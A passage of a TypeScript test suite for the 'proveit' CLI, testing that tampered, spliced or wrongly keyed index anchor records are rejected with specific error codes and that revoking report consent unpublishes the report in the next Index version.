      ...['--trust-layer', trustLayer, '--api-key-file', keyFile, '--season-base', 'http://proveit.devnet.localhost'],
      ...['--db', ctx.db.dbFile, '--json'],
    ]);
    expect(r.code, r.io.stderr + r.io.stdout).toBe(0);
    await ctx.season.net.devnet.closeBatch();
    const view = await fetch(`${trustLayer}/v1/proof/${r.doc!['proof_id']}`);
    writeFileSync(join(dir, 'anchor', 'proof.json'), Buffer.from(await view.arrayBuffer()));
    const checked = await verify(dir, ['--trust', trust()]);
    expect(checked.code).toBe(1);
    const publicKey = JSON.parse(readFileSync(join(dir, 'signing-key.json'), 'utf8'))['public_key'] as string;
    const problems = checked.doc!['problems'] as Json[];
    expect(problems.map((p) => p.code)).toEqual(['INDEX_ANCHOR_FOREIGN_DID']);
    expect(problems[0]!.details).toMatchObject({ anchored: participant.did, recomputed: challengeDidOf(publicKey) });
    expect(problems[0]!.message).toContain(participant.did);
    expect(problems[0]!.message).toContain(challengeDidOf(publicKey));
  });

  it("another export's anchor record fails with INDEX_ANCHOR_MISMATCH", async () => {
    const dir = join(ctx.work, 'anchor-spliced');
    cpSync(join(ctx.work, 'v1'), dir, { recursive: true });
    cpSync(join(anchored, 'anchor'), join(dir, 'anchor'), { recursive: true });
    const r = await verify(dir, ['--trust', trust()]);
    expect(r.code).toBe(1);
    expect(r.doc!['problems'].map((p: Json) => p.code)).toEqual(['INDEX_ANCHOR_MISMATCH']);
  });

  it('the anchor is signed with the export’s own key: a record whose signature was edited fails with INDEX_ANCHOR_SIGNATURE_INVALID', async () => {
    const record = JSON.parse(readFileSync(join(anchored, 'anchor', 'anchor.json'), 'utf8')) as Json;
    expect(record).toMatchObject({
      format: 'proveit-index-anchor-record/2',
      operator_public_key: JSON.parse(readFileSync(join(anchored, 'signing-key.json'), 'utf8'))['public_key'],
    });
    const dir = join(ctx.work, 'anchor-signature-edited');
    cpSync(anchored, dir, { recursive: true });
    const signature = record['operator_signature'] as string;
    const edited = `${signature[0] === 'A' ? 'B' : 'A'}${signature.slice(1)}`;
    writeFileSync(join(dir, 'anchor', 'anchor.json'), JSON.stringify({ ...record, operator_signature: edited }));
    const r = await verify(dir, ['--trust', trust()]);
    expect(r.code).toBe(1);
    expect(r.doc!['problems'].map((p: Json) => p.code)).toEqual(['INDEX_ANCHOR_SIGNATURE_INVALID']);
  });

  it('index anchor with a key other than the one that signed the export is refused INDEX_ANCHOR_KEY_MISMATCH, nothing posted', async () => {
    const { indexAnchorCommand } = await import('../../../main/cli/index-commands.ts');
    const dir = join(ctx.work, 'v2-other-key-anchor');
    cpSync(join(ctx.work, 'v2'), dir, { recursive: true });
    const r = await run(indexAnchorCommand, [
      dir,
      ...['--trust-layer', 'http://127.0.0.1:9', '--api-key-file', join(ctx.work, 'operator.key')],
      ...['--season-base', 'http://proveit.devnet.localhost', '--key-file', join(ctx.work, 'other-key.pem')],
      ...['--db', ctx.db.dbFile, '--json'],
    ]);
    expect([r.code, r.doc!['code']]).toEqual([1, 'INDEX_ANCHOR_KEY_MISMATCH']);
    expect(existsSync(join(dir, 'anchor'))).toBe(false);
  });
});

describe('private reports, public by choice, through the season service (docs/publications.md)', () => {
  it('a consent revoked on the season service and read applies to the next Index version: the report unlinked and unshipped, its proofs page without causes; --version 2 still writes version 2 byte for byte', async () => {
    const report = `reports/conformite/${alice}`;
    expect(existsSync(join(ctx.work, 'v2', `${report}.json`))).toBe(true);
    ctx.clock.current += 3600_000;
    await chooseReport(ctx, ctx.season.alice, false);
    const r = await exportTo(join(ctx.work, 'v-revoked'));
    expect(r.doc).toMatchObject({ ok: true, corrects_version: 2, new_version: true });
    const dir = join(ctx.work, 'v-revoked');
    for (const suffix of ['.html', '.en.html', '.json'])
      expect(existsSync(join(dir, `${report}${suffix}`))).toBe(false);
    const page = readFileSync(join(dir, 'index.html'), 'utf8');
    expect(page).not.toContain(`href="${report}.html"`);
    expect(page).toContain('rapport gardé privé par le participant');
    const proofs = readFileSync(join(dir, `proofs/conformite/${alice}.en.html`), 'utf8');
    expect(proofs).not.toContain('data-status');
    expect(proofs).not.toMatch(/value_mismatch|identity_not_bound|VALUE_DIFFERS/);
    // Bob still consents; his report is published.
    expect(existsSync(join(dir, `reports/conformite/${bob}.json`))).toBe(true);
    const json = JSON.parse(readFileSync(join(dir, 'index.json'), 'utf8')) as Json;
    expect(json['private_reports'].map((p: Json) => p['participant_id'])).toEqual([alice]);
    expect((await verify(dir)).code).toBe(0);
    // Version 2, exported while Alice's report was public, is written again as it was.
    const again = await exportTo(join(ctx.work, 'v2-after-revocation'), ['--version', '2']);
    expect(again.doc).toMatchObject({ ok: true, index_version: 2, new_version: false });
    for (const f of ['manifest.json', 'manifest.sig.json', 'index.html', 'index.json', `${report}.json`])
      expect(
        readFileSync(join(ctx.work, 'v2-after-revocation', f)).equals(readFileSync(join(ctx.work, 'v2', f))),
        f,
      ).toBe(true);
  });
});
